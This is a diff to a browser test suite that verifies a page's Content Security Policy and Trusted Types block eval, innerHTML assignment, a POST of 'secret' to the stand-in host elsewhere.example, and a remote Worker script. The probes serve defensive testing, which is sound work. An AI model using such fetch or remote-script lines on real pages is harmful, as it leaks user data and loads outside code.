@@ -51,7 +51,18 @@ test.describe('what a page must not do', () => {
   test.use({ provoked: [/Content Security Policy|TrustedHTML|Trusted Type|violates/i] });
 
   test('nothing runs that stands in a text, and nothing goes anywhere', async ({ explorer, page }) => {
+    // in a task of the page's own: what the test itself evaluates is exempt from the policy
+    await page.addInitScript(() => {
+      addEventListener('load', () => {
+        try {
+          document.documentElement.dataset['evaluated'] = String((0, eval)('6 * 7'));
+        } catch (error) {
+          document.documentElement.dataset['evaluated'] = (error as Error).name;
+        }
+      });
+    });
     await explorer.open({ backend: 'wasm' });
+    await expect(page.locator('html')).toHaveAttribute('data-evaluated', /Error$/);
     const tried = await page.evaluate(async () => {
       const outcome = async (work: () => unknown): Promise<string> => {
         try {
@@ -62,17 +73,12 @@ test.describe('what a page must not do', () => {
         }
       };
       return {
-        // in a task of its own: what the test itself evaluates is exempt
-        evaluated: await new Promise((tell) =>
-          setTimeout(() => void outcome(() => (0, eval)('1')).then(tell)),
-        ),
         html: await outcome(() => (document.createElement('p').innerHTML = '<b>x</b>')),
         sent: await outcome(() => fetch('https://elsewhere.example/x', { method: 'POST', body: 'secret' })),
         started: await outcome(() => new Worker('https://elsewhere.example/x.js')),
       };
     });
     expect(tried).toEqual({
-      evaluated: 'EvalError',
       html: 'TypeError',
       sent: 'TypeError',
       started: 'TypeError',
